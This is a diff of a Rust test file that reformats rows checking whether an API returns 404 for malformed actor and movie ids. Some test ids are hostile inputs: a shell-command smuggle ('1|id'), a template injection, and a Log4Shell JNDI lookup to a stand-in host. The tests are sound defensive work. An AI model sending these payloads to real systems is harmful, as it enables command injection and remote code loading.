@@ -57,25 +57,66 @@ pub(super) fn rows() -> Vec<Row> {
         ("the row that counts", "-1%2f0"),
         ("a template's expression", "$%7b7*7%7d"),
         ("a shell's", "1|id"),
-        ("a look-up of log4j", "$%7bjndi:ldap:%2f%2fevil.example%2fa%7d"),
+        (
+            "a look-up of log4j",
+            "$%7bjndi:ldap:%2f%2fevil.example%2fa%7d",
+        ),
         ("another resource's id", "movies"),
     ];
     let rows = spellings.into_iter().flat_map(|(what, id)| {
-        [("DELETE", "actors"), ("PATCH", "movies"), ("GET", "actors"), ("GET", "movies")].map(|(method, resource)| {
-            let body = if method == "PATCH" { r#"{"title": "Changed"}"# } else { "" };
-            Row::new(&format!("{what} ({method} {resource})"), method, format!("/{resource}/{id}"), 404).body(body)
+        [
+            ("DELETE", "actors"),
+            ("PATCH", "movies"),
+            ("GET", "actors"),
+            ("GET", "movies"),
+        ]
+        .map(|(method, resource)| {
+            let body = if method == "PATCH" {
+                r#"{"title": "Changed"}"#
+            } else {
+                ""
+            };
+            Row::new(
+                &format!("{what} ({method} {resource})"),
+                method,
+                format!("/{resource}/{id}"),
+                404,
+            )
+            .body(body)
         })
     });
-    let long = Row::new("five thousand digits", "DELETE", format!("/actors/{}", "1".repeat(5000)), 404);
-    let greatest = Row::new("the greatest id there could be", "DELETE", "/actors/9007199254740991", 404);
+    let long = Row::new(
+        "five thousand digits",
+        "DELETE",
+        format!("/actors/{}", "1".repeat(5000)),
+        404,
+    );
+    let greatest = Row::new(
+        "the greatest id there could be",
+        "DELETE",
+        "/actors/9007199254740991",
+        404,
+    );
     let percent = Row::new("a percent sign alone", "DELETE", "/actors/%", 404);
     let read = [
-        ("five thousand digits, read", format!("/movies/{}", "1".repeat(5000))),
-        ("the greatest id there could be, read", "/actors/9007199254740991".to_owned()),
-        ("the greatest id there could be, read with its credits", "/movies/9007199254740991?include=cast".to_owned()),
+        (
+            "five thousand digits, read",
+            format!("/movies/{}", "1".repeat(5000)),
+        ),
+        (
+            "the greatest id there could be, read",
+            "/actors/9007199254740991".to_owned(),
+        ),
+        (
+            "the greatest id there could be, read with its credits",
+            "/movies/9007199254740991?include=cast".to_owned(),
+        ),
         ("a percent sign alone, read", "/movies/%".to_owned()),
         // The id is checked before the query.
-        ("a bad id with a bad query", "/actors/01?include=all".to_owned()),
+        (
+            "a bad id with a bad query",
+            "/actors/01?include=all".to_owned(),
+        ),
         ("a credit's key", "/actors/actor%231".to_owned()),
         ("a credit of an actor", "/actors/1/credits".to_owned()),
     ];
